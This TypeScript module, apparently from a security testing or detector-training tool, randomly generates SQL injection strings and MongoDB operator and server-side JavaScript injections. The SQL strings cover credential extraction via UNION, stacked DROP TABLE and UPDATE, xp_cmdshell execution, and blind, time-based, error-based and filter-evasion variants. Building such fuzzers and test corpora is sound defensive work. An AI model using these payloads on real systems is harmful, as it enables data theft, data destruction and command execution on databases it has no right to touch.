import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

const TABLES = ['users', 'accounts', 'orders', 'members', 'admin', 'customers', 'employees', 'sessions'];
const COLUMNS = ['password', 'username', 'email', 'pwd_hash', 'salary', 'token', 'role', 'api_key'];
const BREAKS = ["'", '"', "')", "'))", '")', "%'", "';", '1)', "x'"];
const ENDS = ['-- ', '-- -', '#', '/*', '--+', ';--', ';#'];
const FACTS = ['user()', 'version()', '@@version', 'database()', '@@datadir', 'current_user'];

/** Classic manual injection as the textbooks and sqlmap's default techniques write it. */
export function sqlPayload(r: Random): Payload {
  const [technique, make] = r.pick(SQL);
  return make(r, technique);
}

type Make = (r: Random, technique: string) => Payload;

function plain(write: (r: Random) => string): Make {
  return (r, technique) => ({ technique, text: write(r) });
}

function lead(r: Random): string {
  return r.chance(0.5) ? String(r.int(1, 9999)) : r.pick(['', 'a', 'admin', 'test', 'x']);
}

const SQL: readonly (readonly [string, Make])[] = [
  [
    'tautology',
    plain((r) => {
      const n = r.int(1, 99);
      return `${lead(r)}${r.pick(BREAKS)} ${r.pick(['OR', 'or', '||'])} ${n}=${n}${r.pick(ENDS)}`;
    }),
  ],
  [
    'string tautology',
    plain((r) => {
      const a = r.hex(2);
      return `${lead(r)}' ${r.pick(['or', 'OR', 'oR'])} '${a}'='${a}`;
    }),
  ],
  [
    'like tautology',
    plain((r) => `${lead(r)}' OR ${r.pick(COLUMNS)} LIKE '%${r.pick(['a', 'e', 'adm'])}%'${r.pick(ENDS)}`),
  ],
  [
    'comment login',
    plain(
      (r) =>
        `${r.pick(['admin', 'root', 'administrator', 'sa', 'manager'])}'${r.pick([' --', '#', '/*', '-- ', '--;'])}${r.pick(['', ' ', 'x'])}`,
    ),
  ],
  [
    'union',
    plain(
      (r) => `${lead(r)}${r.pick(BREAKS)} UNION ${r.pick(['', 'ALL '])}SELECT ${columns(r)}${r.pick(ENDS)}`,
    ),
  ],
  [
    'union from',
    plain(
      (r) =>
        `-${r.int(1, 900)}' union select ${r.pick(COLUMNS)},${r.pick(COLUMNS)} from ${r.pick(TABLES)}${r.pick(ENDS)}`,
    ),
  ],
  [
    'schema listing',
    plain(
      (r) =>
        `${lead(r)}' UNION SELECT table_name,${r.int(1, 9)} FROM information_schema.tables WHERE table_schema=database() LIMIT ${r.int(0, 40)},1${r.pick(ENDS)}`,
    ),
  ],
  [
    'stacked drop',
    plain(
      (r) => `${lead(r)}'; ${r.pick(['DROP TABLE', 'TRUNCATE TABLE', 'DELETE FROM'])} ${r.pick(TABLES)};--`,
    ),
  ],
  [
    'stacked update',
    plain(
      (r) =>
        `${r.int(1, 999)}; UPDATE ${r.pick(TABLES)} SET ${r.pick(COLUMNS)}='${r.hex(4)}' WHERE id=${r.int(1, 50)}--`,
    ),
  ],
  [
    'stacked shell',
    plain(
      (r) =>
        `${lead(r)}'; EXEC ${r.pick(['xp_cmdshell', 'master..xp_cmdshell', 'sp_configure'])} '${r.pick(['dir', 'whoami', 'ipconfig', 'ver'])} ${r.hex(2)}'--`,
    ),
  ],
  [
    'blind ascii',
    plain(
      (r) =>
        `${r.int(1, 900)} AND ASCII(SUBSTRING((SELECT ${r.pick(COLUMNS)} FROM ${r.pick(TABLES)} LIMIT ${r.int(0, 5)},1),${r.int(1, 12)},1))>${r.int(32, 120)}`,
    ),
  ],
  [
    'blind exists',
    plain(
      (r) =>
        `${lead(r)}' AND EXISTS(SELECT * FROM ${r.pick(TABLES)} WHERE ${r.pick(COLUMNS)} LIKE '${r.hex(1)}%')${r.pick(ENDS)}`,
    ),
  ],
  ['blind length', plain((r) => `${r.int(1, 900)}' and length(${r.pick(FACTS)})=${r.int(3, 20)} and '1'='1`)],
  [
    'order by',
    plain(
      (r) => `${lead(r)}${r.pick(["'", "')", '"'])} ORDER BY ${r.int(2, 40)}${r.pick(['-- -', '#', '--+'])}`,
    ),
  ],
  ['time', timed],
  [
    'error based',
    plain(
      (r) =>
        `${lead(r)}' AND ${r.pick(['extractvalue', 'EXTRACTVALUE'])}(${r.int(1, 99)},concat(0x7e,(${r.pick(FACTS)}),0x7e))${r.pick(ENDS)}`,
    ),
  ],
  [
    'error based xml',
    plain(
      (r) =>
        `${r.int(1, 99)} or updatexml(1,concat(0x3a,(select ${r.pick(COLUMNS)} from ${r.pick(TABLES)} limit 1)),${r.int(0, 9)})`,
    ),
  ],
  [
    'error floor',
    plain(
      (r) =>
        `${r.int(1, 99)}' AND (SELECT ${r.int(1, 9)} FROM(SELECT COUNT(*),CONCAT(${r.pick(FACTS)},FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)-- `,
    ),
  ],
  [
    'inline comments',
    plain(
      (r) => `${lead(r)}'/**/UNI/**/ON/**/SEL/**/ECT/**/${columns(r).replaceAll(' ', '/**/')}${r.pick(ENDS)}`,
    ),
  ],
  [
    'version comments',
    plain(
      (r) =>
        `-${r.int(1, 99)}' /*!${r.pick(['50000', '40101', '12345'])}UniOn*/ /*!SeLeCt*/ ${columns(r)}-- -`,
    ),
  ],
  [
    'mixed case',
    plain(
      (r) => mixCase(`${lead(r)}' union select ${r.pick(COLUMNS)} from ${r.pick(TABLES)}`, r) + r.pick(ENDS),
    ),
  ],
  [
    'odd whitespace',
    plain(
      (r) =>
        `${lead(r)}'\n${r.pick(['or', 'and'])}\t${r.int(2, 9)}${r.pick(['>', '='])}${1}${r.pick(['--\n', '#'])}`,
    ),
  ],
  [
    'concatenation',
    plain((r) => `${lead(r)}'||(SELECT ${r.pick(COLUMNS)} FROM ${r.pick(TABLES)} WHERE ROWNUM=1)||'`),
  ],
  [
    'postgres cast',
    plain(
      (r) => `${r.int(1, 99)}::text||(SELECT string_agg(${r.pick(COLUMNS)},',') FROM ${r.pick(TABLES)})--`,
    ),
  ],
  [
    'having',
    plain((r) => `${lead(r)}' GROUP BY ${r.pick(TABLES)}.${r.pick(COLUMNS)} HAVING ${r.int(1, 9)}=1--`),
  ],
];

function columns(r: Random): string {
  const count = r.int(2, 7);
  const list = Array.from({ length: count }, (_, i) => r.pick(['NULL', 'null', String(i + 1)]));
  list[r.int(0, count - 1)] = r.pick([...FACTS, `concat(${r.pick(COLUMNS)},0x3a,${r.pick(COLUMNS)})`]);
  return list.join(r.pick([',', ', ']));
}

function timed(r: Random, technique: string): Payload {
  const delaySeconds = r.int(4, 9);
  const text = r.pick([
    `${lead(r)}' AND SLEEP(${delaySeconds})-- -`,
    `${lead(r)}'; WAITFOR DELAY '0:0:${delaySeconds}'--`,
    `${lead(r)}' || pg_sleep(${delaySeconds})--`,
    `${r.int(1, 99)} AND (SELECT ${r.int(100, 999)} FROM (SELECT(SLEEP(${delaySeconds})))${r.token(4)})`,
    `${lead(r)}'; SELECT pg_sleep(${delaySeconds}); --`,
  ]);
  return { technique, text, delaySeconds };
}

function mixCase(text: string, r: Random): string {
  return [...text].map((c) => (r.chance(0.5) ? c.toUpperCase() : c)).join('');
}

const FIELDS = ['username', 'email', 'login', 'user', 'account', 'name', 'code', 'coupon'];

/** Operator injection into query parameters: the key carries it. */
export function mongoQuery(r: Random): { readonly text: string; readonly technique: string } {
  const field = r.pick(FIELDS);
  const op = r.pick(['$ne', '$gt', '$regex']);
  // Comparisons with a value may be an honest filter; with nothing they are not.
  const value =
    { $ne: r.pick(['', '1', 'x', r.hex(3)]), $gt: '', $regex: r.pick(['^a', '.*', `^${r.hex(2)}`, '.{8}']) }[
      op
    ] ?? '';
  const open = r.chance(0.5) ? ['[', ']'] : ['%5B', '%5D'];
  const one = `${field}${open[0]}${op}${open[1]}=${encodeURIComponent(value)}`;
  return r.chance(0.5)
    ? { technique: 'operator in a query key', text: one }
    : {
        technique: 'two operators in query keys',
        text: `${one}&password${open[0]}$ne${open[1]}=${r.hex(2)}`,
      };
}

/** Operator injection into a JSON document. */
export function mongoDocument(r: Random): { readonly document: unknown; readonly technique: string } {
  const user = r.pick([{ $gt: '' }, { $ne: null }, { $ne: r.hex(3) }, { $regex: `^${r.hex(1)}` }, 'admin']);
  const field = r.pick(['username', 'email', 'login', 'user']);
  return r.pick([
    () => ({
      technique: 'login operators',
      document: { [field]: user, password: r.pick([{ $ne: null }, { $gt: '' }, { $ne: r.hex(2) }]) },
    }),
    () => ({
      technique: '$where',
      document: { [field]: r.hex(4), $where: `this.password.length > ${r.int(0, 40)}` },
    }),
    () => ({
      technique: '$where function',
      document: {
        filter: { $where: `function(){return this.${r.pick(['role', 'pin', 'token'])}=='${r.hex(3)}'}` },
      },
    }),
    () => ({
      technique: '$regex extraction',
      document: { [field]: 'admin', password: { $regex: `^${r.hex(r.int(1, 6))}.*` } },
    }),
  ])();
}

/** Injection into server-side JavaScript of a document database. */
export function mongoScript(r: Random): Payload {
  const a = r.hex(2);
  const text = r.pick([
    `${a}'; return true; var ${r.hex(2)}='`,
    `${a}' || this.password.match(/^${r.hex(2)}/) || '`,
    `'; while(true){}; var a${a}='`,
    `${a}'; return this.${r.pick(['role', 'isAdmin', 'token'])} != '${r.hex(2)}'; //`,
  ]);
  return { technique: 'server-side JavaScript', text, alsoFamilies: ['sql-injection', 'xss'] };
}
